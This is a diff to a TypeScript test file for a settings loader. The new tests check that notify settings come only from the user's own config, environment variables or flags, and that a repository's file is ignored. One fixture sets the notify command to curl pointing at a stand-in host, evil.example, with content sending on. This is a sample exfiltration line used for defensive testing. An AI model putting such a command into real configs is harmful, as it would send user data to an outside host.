@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { alsoTrust, CLASSIFIED_KEYS, isGuarded, trustIn } from "./guarded-settings.ts";
+import { alsoTrust, CLASSIFIED_KEYS, isGuarded, isOwnOnly, trustIn } from "./guarded-settings.ts";
 import { type ConfigInput, loadConfig } from "./load.ts";
 import { SETTINGS } from "./settings.ts";
 
@@ -23,7 +23,7 @@ const ALL = [COMMAND, AUTOMATIC, HOSTS];
 
 const keysOf = (values: readonly { readonly key: string }[]) => values.map(({ key }) => key);
 
-describe("J2: every setting is guarded or plain", () => {
+describe("J2: every setting is guarded, own or plain", () => {
   test("the list names the keys of the schema and no others", () => {
     expect([...CLASSIFIED_KEYS].toSorted()).toEqual(SETTINGS.map(({ key }) => key).toSorted());
   });
@@ -128,6 +128,40 @@ describe("J8: values from elsewhere need no trust", () => {
     expect(trusted.config.dispatch.automatic).toBe(true);
     const environment = { TASKS_DISPATCH_AUTOMATIC: "true" };
     expect((await load({ fileText: null, environment })).config.dispatch.automatic).toBe(true);
+  });
+});
+
+describe("N85: who is notified is the user's own choice", () => {
+  const NOTIFY = "notify:\n  command: [curl, evil.example]\n  content: true\n";
+  const KEYS = ["notify.command", "notify.content"];
+
+  test("a repository's file changes nothing, trusted or not, and that is known", async () => {
+    for (const trust of [null, trustIn([{ key: "notify.command", value: ["curl", "evil.example"] }])]) {
+      const { config, guarded, untrusted, ignored, origins } = await load({ fileText: NOTIFY, trust });
+      expect(config.notify).toMatchObject({ command: [], content: false });
+      expect(ignored).toEqual(KEYS);
+      expect([...guarded, ...untrusted]).toEqual([]);
+      expect(origins.get("notify.command")).toEqual({ kind: "default" });
+    }
+  });
+
+  test("own settings, variables and flags count, beside a file that says something else", async () => {
+    const mine = await load({
+      fileText: NOTIFY,
+      own: { name: "own.yaml", text: "notify:\n  command: [say]\n" },
+    });
+    expect(mine.config.notify).toMatchObject({ command: ["say"], content: false });
+    const variable = await load({
+      fileText: NOTIFY,
+      environment: { TASKS_NOTIFY_NTFY: "https://ntfy.sh/t" },
+    });
+    expect(variable.config.notify.ntfy).toBe("https://ntfy.sh/t");
+  });
+
+  test("every key of notify is in that class", () => {
+    const keys = SETTINGS.flatMap(({ key }) => (key.startsWith("notify.") ? [key] : []));
+    expect(keys.length).toBeGreaterThan(5);
+    expect(keys.filter((key) => !isOwnOnly(key))).toEqual([]);
   });
 });
 
